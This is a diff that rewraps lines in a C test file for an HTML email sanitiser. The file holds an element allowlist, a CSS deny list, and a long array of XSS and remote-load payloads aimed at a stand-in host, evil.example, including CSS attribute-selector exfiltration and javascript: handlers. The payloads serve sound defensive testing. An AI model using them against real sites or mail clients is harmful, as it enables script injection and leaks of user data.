@@ -10,10 +10,14 @@
 /* Everything that a sanitised document may consist of; written down a second time here, so that a
  * slip in the one list is seen. */
 static const char *const elements[] = {
-  "html", "head", "body", "meta", "style", "a", "abbr", "acronym", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote",
-  "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "dir", "div", "dl", "dt", "em",
-  "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main",
-  "mark", "menu", "nav", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong", "sub",
+  "html", "head", "body", "meta", "style", "a", "abbr", "acronym", "address", "article", "aside",
+    "b", "bdi", "bdo", "big", "blockquote",
+  "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn",
+    "dir", "div", "dl", "dt", "em",
+  "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr",
+    "i", "img", "ins", "kbd", "li", "main",
+  "mark", "menu", "nav", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section",
+    "small", "span", "strike", "strong", "sub",
   "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr", NULL
 };
 
@@ -28,7 +32,8 @@ static void
 check_css (const char *css)
 {
   g_autofree char *lower = g_ascii_strdown (css, -1);
-  static const char *const forbidden[] = { "expression", "javascript", "@import", "@font", "behavior", "-moz-binding", "position:", "<", "\\", "/*", "content:", "image-set", "var(" };
+  static const char *const forbidden[] = { "expression", "javascript", "@import", "@font",
+    "behavior", "-moz-binding", "position:", "<", "\\", "/*", "content:", "image-set", "var(" };
 
   for (gsize i = 0; i < G_N_ELEMENTS (forbidden); i++)
     for (const char *p = lower; (p = strstr (p, forbidden[i])) != NULL; p++)
@@ -318,7 +323,8 @@ static const char *const attacks[] = {
   "<img src=\"filesystem:https://evil.example/x\">",
   "<input type=image src=https://evil.example/x>",
   "<picture><source srcset=https://evil.example/x><img></picture>",
-  "<video poster=https://evil.example/x src=https://evil.example/y autoplay><source src=https://evil.example/z onerror=alert(1)></video>",
+  "<video poster=https://evil.example/x src=https://evil.example/y autoplay><source "
+    "src=https://evil.example/z onerror=alert(1)></video>",
   "<audio src=https://evil.example/x autoplay>",
   "<video><track src=https://evil.example/x default></video>",
   "<embed src=https://evil.example/x>",
@@ -376,7 +382,8 @@ static const char *const attacks[] = {
   "<a name=x id=__proto__ href=#x>y</a>",
   "<area href=javascript:alert(1)>",
   "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>",
-  "<form action=https://evil.example><input name=a type=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x",
+  "<form action=https://evil.example><input name=a type=password autofocus onfocus=alert(1)>"
+    "<button formaction=javascript:alert(1)>x",
   "<form id=x></form><button form=x formaction=https://evil.example>y",
   "<isindex type=image src=1 onerror=alert(1)>",
   "<keygen autofocus onfocus=alert(1)>",
@@ -411,8 +418,10 @@ static const char *const attacks[] = {
   "<style>p{background:-webkit-image-set(url(https://evil.example/x) 1x)}</style>",
   "<style>p{background:cross-fade(url(https://evil.example/x),red)}</style>",
   "<style>p{--x:url(https://evil.example/x);background:var(--x)}</style>",
-  "<style>p{list-style:url(https://evil.example/x)}p{cursor:url(https://evil.example/x),auto}p{content:url(https://evil.example/x)}</style>",
-  "<style>p{border-image:url(https://evil.example/x);mask:url(https://evil.example/x);filter:url(https://evil.example/x#y)}</style>",
+  "<style>p{list-style:url(https://evil.example/x)}p{cursor:url(https://evil.example/x),"
+    "auto}p{content:url(https://evil.example/x)}</style>",
+  "<style>p{border-image:url(https://evil.example/x);mask:url(https://evil.example/x);"
+    "filter:url(https://evil.example/x#y)}</style>",
   "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
   "<style>p{-moz-binding:url(https://evil.example/x#y);behavior:url(https://evil.example/x)}</style>",
   "<style>p{width:expression(alert(1))}p{width:exp/**/ression(alert(1))}</style>",
@@ -448,7 +457,8 @@ static const char *const attacks[] = {
   "<p onclick\n=\nalert(1)>",
   "<p =onclick=alert(1)>",
   "<p 'onclick=alert(1)>",
-  "<p data-x=\"<script>\" aria-label=y role=z contenteditable tabindex=1 accesskey=x draggable=true is=foo slot=s part=p nonce=n>",
+  "<p data-x=\"<script>\" aria-label=y role=z contenteditable tabindex=1 accesskey=x "
+    "draggable=true is=foo slot=s part=p nonce=n>",
   "<a href=https://a.example/<b onclick=alert(1)>x</b>",
   "<table><td><a><table><style></table><img src=x onerror=alert(1)></style>",
   "<a><table><a href=javascript:alert(1)>x</table></a>",
@@ -509,7 +519,8 @@ static void
 test_mutations (void)
 {
   static const char *const glue[] = {
-    "<", ">", "\"", "'", "`", "/", "=", " ", "<!--", "-->", "<style>", "</style>", "<table>", "</p>", "<p ", "&", ";", "{", "}", "url(", ")", "\n",
+    "<", ">", "\"", "'", "`", "/", "=", " ", "<!--", "-->", "<style>", "</style>", "<table>",
+      "</p>", "<p ", "&", ";", "{", "}", "url(", ")", "\n",
     "<a href=", "<img src=", "style=", "on", "javascript:", "</", "<![", "]]>", "<svg>", "</svg>", "<title>", "\\",
   };
   g_autoptr(GRand) rand = g_rand_new_with_seed (20261124);
@@ -537,7 +548,8 @@ static void
 test_blocked (void)
 {
   static const char html[] =
-    "<body background=\"https://t.example/0\"><img src=\"https://t.example/1\"><img src=\"http://t.example/2\"><img src=\"cid:x\">"
+    "<body background=\"https://t.example/0\"><img src=\"https://t.example/1\"><img "
+      "src=\"http://t.example/2\"><img src=\"cid:x\">"
     "<p style=\"background-image:url(https://t.example/3)\">x</p><style>p{background:url(https://t.example/4)}</style>"
     "<script src=\"https://t.example/5\"></script></body>";
   guint blocked;
@@ -559,8 +571,10 @@ static void
 test_sheet (void)
 {
   static const char html[] =
-    "<html><head><title>no</title><style type=\"text/css\"><!--\n.a, #b > td:hover { color: #fff; position: absolute }\n"
-    "@media only screen and (max-width: 480px) { .c { width: 100% !important; } }\n[x] { color: red }\n-->\n</style></head><body>y</body></html>";
+    "<html><head><title>no</title><style type=\"text/css\"><!--\n.a, #b > td:hover { color: #fff; "
+      "position: absolute }\n"
+    "@media only screen and (max-width: 480px) { .c { width: 100% !important; } }\n[x] { color: "
+      "red }\n-->\n</style></head><body>y</body></html>";
   g_autofree char *safe = valija_html_sanitise (html, VALIJA_HTML_LOCAL_ONLY, NULL);
 
   g_assert_nonnull (strstr (
@@ -574,8 +588,10 @@ static void
 test_floods (void)
 {
   static const char *const floods[] = {
-    "<div>", "<b>", "<p>", "<li>", "<table><tr><td>", "<a href=x>", "<blockquote>", "</b>", "<", "<!--", "<![", "&", "&#", "<x ", "<style>", "<svg>",
-    "<p style=\"color:red\">", "<img src=https://t.example/x>", "<ul><li>", "<pre>", "<font><b><i>", "\"", "<p title='", "<br>", "a ",
+    "<div>", "<b>", "<p>", "<li>", "<table><tr><td>", "<a href=x>", "<blockquote>", "</b>", "<",
+      "<!--", "<![", "&", "&#", "<x ", "<style>", "<svg>",
+    "<p style=\"color:red\">", "<img src=https://t.example/x>", "<ul><li>", "<pre>",
+      "<font><b><i>", "\"", "<p title='", "<br>", "a ",
   };
 
   const gsize size = g_test_slow () ? 9 * 1024 * 1024 : 1024 * 1024;
